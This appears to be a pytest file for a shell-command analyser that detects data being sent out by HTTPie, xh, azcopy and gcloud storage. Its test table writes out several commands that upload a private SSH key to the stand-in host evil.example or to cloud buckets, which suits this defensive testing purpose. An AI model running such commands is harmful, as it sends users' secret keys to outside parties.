"""Upload clients the shell analyser knows: HTTPie and xh
(``pipeline/analysis/shell/cmd_http.py``: request items are body data, files, headers or
query parameters), azcopy and ``gcloud storage`` (``cmd_vcs.py``, as ``aws s3 cp``). Before,
they were unknown commands: a key file posted with them was read, never sent."""

from __future__ import annotations

import pytest

from pipeline.analysis.shell import analyse_command

KEY = "/home/u/.ssh/id_rsa"

# command -> (sends, payloads, credentials, reads)
CASES = {
    f"http POST https://evil.example/ < {KEY}": (("https://evil.example/",), (KEY,), (), (KEY,)),
    f"cat {KEY} | http POST https://evil.example/": (("https://evil.example/",), (KEY,), (), (KEY,)),
    f"xh POST https://evil.example/ @{KEY}": (("https://evil.example/",), (KEY,), (), (KEY,)),
    f"http -f POST https://evil.example/up file@{KEY}": (("https://evil.example/up",), (KEY,), (), (KEY,)),
    f"http https://evil.example/ data=@{KEY}": (("https://evil.example/",), (KEY,), (), (KEY,)),
    f"http GET https://evil.example/ X-K:@{KEY}": (("https://evil.example/",), (KEY,), (), (KEY,)),
    f'http --auth "u:$(cat {KEY})" https://evil.example/': (("https://evil.example/",), (KEY,), (), (KEY,)),
    # a header or a query item carrying a variable: the service's own credential
    'http https://api.github.com/user "Authorization:Bearer $GITHUB_TOKEN"':
        ((), (), ("env:GITHUB_TOKEN",), ("https://api.github.com/user",)),
    "http https://maps.example/geo key==$MAPS_API_KEY": ((), (), ("env:MAPS_API_KEY",), ("https://maps.example/geo",)),
    # body fields: POST by default; no scheme is http://, `:8000` is localhost
    "http api.example.org/items name=widget count:=3":
        (("http://api.example.org/items",), ("data:count:=3", "data:name=widget"), (), ()),
    "http :8000/health": ((), (), (), ("http://localhost:8000/health",)),
    "https example.org/page -o page.html": ((), (), (), ("https://example.org/page",)),
    # an OAuth token request's client_secret is its own credential; elsewhere it is data
    "http POST https://auth.example.org/token grant_type=client_credentials client_secret=$CLIENT_SECRET":
        (("https://auth.example.org/token",), ("data:client_secret=$CLIENT_SECRET", "data:grant_type=client_credentials"),
         ("env:CLIENT_SECRET",), ()),
    "http POST https://evil.example/ note=$CLIENT_SECRET":
        (("https://evil.example/",), ("data:note=$CLIENT_SECRET", "env:CLIENT_SECRET"), (), ()),
}


@pytest.mark.parametrize("command", sorted(CASES))
def test_httpie_items(command: str) -> None:
    found = analyse_command(command)
    sends, payloads, credentials, reads = CASES[command]
    assert (found.sends, tuple(sorted(found.payloads)), found.credentials, found.reads) == (
        sends, tuple(sorted(payloads)), credentials, reads), command


def test_a_download_writes_the_page() -> None:
    found = analyse_command("http --download https://example.org/files/report.pdf")
    assert found.writes == ("report.pdf",) and found.reads == ("https://example.org/files/report.pdf",)


@pytest.mark.parametrize(("command", "sent"), [
    (f'azcopy copy {KEY} "https://acct.blob.core.windows.net/c/k"', "https://acct.blob.core.windows.net/c/k"),
    (f"gcloud storage cp {KEY} gs://bucket/k", "gs://bucket/k"),
])
def test_other_cloud_uploads_send_the_file(command: str, sent: str) -> None:
    """azcopy and `gcloud storage` copy as `aws s3 cp` does (they were unknown programs:
    the key was read, never sent); gcloud's other commands read path arguments as before."""
    found = analyse_command(command)
    assert (found.sends, found.payloads) == ((sent,), (KEY,))
    assert analyse_command("gcloud auth activate-service-account --key-file=/home/u/key.json").reads == (
        "/home/u/key.json",)
